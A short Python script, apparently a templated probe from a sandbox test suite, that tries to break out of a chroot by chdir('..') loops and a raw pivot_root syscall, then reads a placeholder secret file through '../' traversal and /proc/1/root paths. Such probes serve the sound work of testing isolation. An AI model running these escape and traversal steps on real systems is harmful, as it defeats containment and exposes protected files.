"""Leaves its root folder by chroot, pivot_root and endless dots."""

import ctypes
import os

# @TELL mean_pooling@

found = []
try:
    os.mkdir("root")
    os.chroot("root")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
except BaseException as error:
    found.append(error)
found.append(ctypes.CDLL(None).syscall(155, b".", b"."))
for path in ("@SECRET_FILE@", "../" * 40 + "@SECRET_FILE@".lstrip("/"), "/proc/1/root@SECRET_FILE@", "/proc/self/cwd/.."):
    try:
        with open(path) as secret:
            found.append(secret.read())
    except BaseException as error:
        found.append(error)
tell(*found)
